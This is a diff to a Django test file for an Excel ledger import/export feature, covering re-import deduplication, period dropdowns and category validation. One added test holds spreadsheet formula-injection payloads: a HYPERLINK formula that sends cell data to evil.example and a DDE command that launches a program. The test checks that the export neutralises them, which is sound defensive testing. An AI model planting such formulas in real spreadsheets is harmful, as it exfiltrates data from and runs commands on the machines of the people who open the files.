@@ -154,21 +154,27 @@ def test_export_round_trips_and_uses_the_list_filter(org):
     qs = EntryFilter.from_params({"unit": "A"}).apply(Entry.objects.visible_to(org.rita))
     wb = load_workbook(io.BytesIO(excel.export_entries(qs)))
     rows = list(wb.active.iter_rows(values_only=True))
-    assert rows[0][:5] == ("单位", "类型", "分类", "标题", "日期")
-    assert sorted(r[3] for r in rows[1:]) == ["甲活动", "甲稿"]
-    # the exported sheet imports again (export-only columns are ignored)
-    buffer = io.BytesIO(excel.export_entries(qs))
-    result = excel.import_entries(org.bob, org.town_a1, buffer)
-    assert result.ok and result.created == 2
+    assert rows[0][:6] == ("编号", "单位", "类型", "分类", "标题", "日期")
+    assert sorted(r[4] for r in rows[1:]) == ["甲活动", "甲稿"]
+    # the exported sheet imports again into another unit as new drafts (without its 编号)
+    wb.active.delete_cols(1)
+    buffer = io.BytesIO()
+    wb.save(buffer)
+    buffer.seek(0)
+    result = excel.import_entries(org.alice, org.county_a, buffer)
+    assert result.ok and result.created == 2, result.errors
     again = Entry.objects.get(title="甲稿", status=EntryStatus.DRAFT)
-    assert (again.media_level, again.placement) == ("provincial", "front_headline")
+    assert (again.unit, again.media_level, again.placement) == (org.county_a, "provincial", "front_headline")
 
 
 def test_cli_ledger_import(org, tmp_path, capsys):
     path = tmp_path / "ledger.xlsx"
     path.write_bytes(sheet([GOOD_ROW, dict(GOOD_ROW, 标题="第二条")]).getvalue())
     call_command("ledger_import", str(path), "--unit", "A1", "--user", "bob_reporter", "--no-progress")
-    assert "已导入 2 条草稿到“甲县城关镇”" in capsys.readouterr().out
+    assert "已导入到“甲县城关镇”：新增 2 条草稿，更新 0 条，跳过 0 条" in capsys.readouterr().out
+    call_command("ledger_import", str(path), "--unit", "A1", "--user", "bob_reporter", "--no-progress")
+    out = capsys.readouterr().out
+    assert "新增 0 条草稿，更新 0 条，跳过 2 条" in out and "第 2 行" in out
     bad = tmp_path / "bad.xlsx"
     bad.write_bytes(sheet([dict(GOOD_ROW, 类型="xx")]).getvalue())
     with pytest.raises(CommandError, match="1 行有错误"):
@@ -184,3 +190,133 @@ def test_filter_reads_and_explains_parameters():
     assert (f.period, f.kind, f.status, f.starred) == ("2026H1", "", "approved", True)
     assert f.problems == ("未知的条目类型“poem”，已忽略。",)
     assert f.params() == {"period": "2026H1", "status": "approved", "starred": "1"}
+
+
+FORMULAS = {
+    "title": '=HYPERLINK("http://evil.example/?x="&A1,"点这里")',
+    "summary": "=cmd|' /C calc'!A0",
+    "link": "+1+1",
+    "sent_to": "@SUM(1+1)",
+    "evidence_url": "-2+3",
+    "return_reason": "\t=1+1",
+}
+
+
+def test_export_writes_formula_like_text_as_text(org):
+    fields = {k: v for k, v in FORMULAS.items() if k != "return_reason"}
+    make_entry(org.town_a1, **fields, status=EntryStatus.RETURNED, return_reason=FORMULAS["return_reason"])
+    make_entry(org.town_a1, title="\r=1+2", summary="普通文字")
+    data = excel.export_entries(Entry.objects.all())
+    wb = load_workbook(io.BytesIO(data))  # not data_only: a formula would come back as one
+    cells = [c for row in wb.active.iter_rows(min_row=2) for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = {c.value for c in cells}
+    assert set(FORMULAS.values()) <= texts and "\r=1+2" in texts
+    quoted = {c.value for c in cells if c.quotePrefix}
+    assert quoted == {*FORMULAS.values(), "\r=1+2"}
+    # no <f> (formula) element anywhere in the sheet's XML
+    import zipfile
+
+    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
+    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
+
+
+def test_the_same_file_imported_four_times_leaves_one_copy(org):
+    rows = [
+        GOOD_ROW,
+        dict(GOOD_ROW, 标题="第二条"),
+        dict(GOOD_ROW, 标题="第二条"),
+        dict(GOOD_ROW, 标题="第 三条"),
+    ]
+    first = excel.import_entries(org.bob, org.town_a1, sheet(rows))
+    assert first.ok and (first.created, first.updated) == (3, 0)
+    assert [(s.row, s.message) for s in first.skipped] == [(4, "与第 3 行相同，未重复导入。")]
+    for _ in range(3):
+        again = excel.import_entries(org.bob, org.town_a1, sheet(rows))
+        assert again.ok and (again.created, again.updated, len(again.skipped)) == (0, 0, 4)
+    assert Entry.objects.count() == 3
+    # the normalised title: spaces and punctuation do not make a new entry
+    assert excel.import_entries(org.bob, org.town_a1, sheet([dict(GOOD_ROW, 标题="第三条。")])).created == 0
+    # another outlet or date is another entry
+    assert excel.import_entries(org.bob, org.town_a1, sheet([dict(GOOD_ROW, 媒体="新华社")])).created == 1
+    assert Entry.objects.count() == 4
+
+
+def test_reimporting_an_export_updates_or_skips_by_its_id(org):
+    excel.import_entries(org.bob, org.town_a1, sheet([GOOD_ROW, dict(GOOD_ROW, 标题="第二条")]))
+    approved = make_entry(org.town_a1, title="已通过的稿")
+    wb = load_workbook(io.BytesIO(excel.export_entries(Entry.objects.all())))
+    ws = wb.active
+    header = [c.value for c in ws[1]]
+    for _ in range(4):
+        buffer = io.BytesIO()
+        wb.save(buffer)
+        buffer.seek(0)
+        result = excel.import_entries(org.bob, org.town_a1, buffer)
+        assert result.ok and (result.created, result.updated, len(result.skipped)) == (0, 0, 3)
+    assert Entry.objects.count() == 3
+    # edit the draft's summary and the approved entry's title in the sheet: one update, one refusal
+    by_title = {row[header.index("标题")].value: row for row in ws.iter_rows(min_row=2)}
+    by_title["第二条"][header.index("内容摘要")].value = "补充了摘要"
+    by_title["已通过的稿"][header.index("标题")].value = "改过的标题"
+    buffer = io.BytesIO()
+    wb.save(buffer)
+    buffer.seek(0)
+    result = excel.import_entries(org.bob, org.town_a1, buffer)
+    assert result.ok and (result.created, result.updated) == (0, 1)
+    assert any("已通过" in s.message and f"编号 {approved.pk}" in s.message for s in result.skipped)
+    assert Entry.objects.get(title="第二条").summary == "补充了摘要"
+    assert Entry.objects.get(pk=approved.pk).title == "已通过的稿"
+    assert EntryChange.objects.filter(action=EntryChange.Action.UPDATE).count() == 1
+    assert Entry.objects.count() == 3
+    # an id of another unit's entry is refused, and nothing is written
+    other = make_entry(org.town_b1, title="乙镇的稿")
+    result = excel.import_entries(
+        org.bob, org.town_a1, sheet([{**GOOD_ROW, "编号": other.pk, "标题": "新"}], ["编号", *HEADERS])
+    )
+    assert [(e.row, e.column) for e in result.errors] == [(2, "编号")]
+    assert Entry.objects.get(pk=other.pk).title == "乙镇的稿"
+
+
+def test_period_column_takes_names_and_codes_and_has_a_dropdown(org):
+    from django.utils import timezone
+
+    rows = [
+        dict(GOOD_ROW, 标题="上半年稿", 期间="2026年上半年"),
+        dict(GOOD_ROW, 标题="下半年稿", 日期="2026-08-01", 期间="2026年下半年"),
+        dict(GOOD_ROW, 标题="编码稿", 日期="2026-09-01", 期间="2026h2"),
+    ]
+    result = excel.import_entries(org.bob, org.town_a1, sheet(rows))
+    assert result.ok, result.errors
+    got = dict(Entry.objects.values_list("title", "period__code"))
+    assert got == {"上半年稿": "2026H1", "下半年稿": "2026H2", "编码稿": "2026H2"}
+    bad = excel.import_entries(org.bob, org.town_a1, sheet([dict(GOOD_ROW, 期间="明年上半年")]))
+    assert [(e.row, e.column) for e in bad.errors] == [(2, "期间")]
+    assert "2026年上半年" in bad.errors[0].message
+    Period.objects.filter(code="2026H1").update(locked=True)
+    ws = load_workbook(io.BytesIO(excel.template_workbook())).active
+    letter = "E"
+    assert ws[f"{letter}1"].value == "期间"
+    lists = {str(dv.sqref).split(":")[0][:-1]: dv for dv in ws.data_validations.dataValidation}
+    year = timezone.localdate().year
+    names = lists[letter].formula1.strip('"').split(",")
+    assert f"{year}年下半年" in names and f"{year - 1}年上半年" in names and "2026年下半年" in names
+    assert "2026年上半年" not in names  # locked
+    assert lists[letter].errorStyle == "warning"  # a typed code is still allowed
+
+
+def test_kind_and_category_must_agree(org):
+    rows = [
+        dict(GOOD_ROW, 分类="讲座"),  # row 2: an article filed as a lecture
+        {**GOOD_ROW, "类型": "学习", "分类": "稿件刊播", "媒体": ""},  # row 3
+        {**GOOD_ROW, "类型": "活动", "分类": "讲座", "媒体": ""},  # row 4: fine
+        {**GOOD_ROW, "类型": "荣誉", "分类": "道德模范", "媒体": ""},  # row 5: fine
+    ]
+    result = excel.import_entries(org.bob, org.town_a1, sheet(rows))
+    assert [(e.row, e.column) for e in result.errors] == [(2, "分类"), (3, "分类")]
+    assert str(result.errors[0]).startswith(
+        "第 2 行 “分类”：类型“稿件”与分类“讲座”不符；稿件应选择：稿件刊播"
+    )
+    assert "学习应选择：中心组学习、讲座" in result.errors[1].message
+    assert not Entry.objects.exists()
+    assert excel.import_entries(org.bob, org.town_a1, sheet(rows[2:])).created == 2
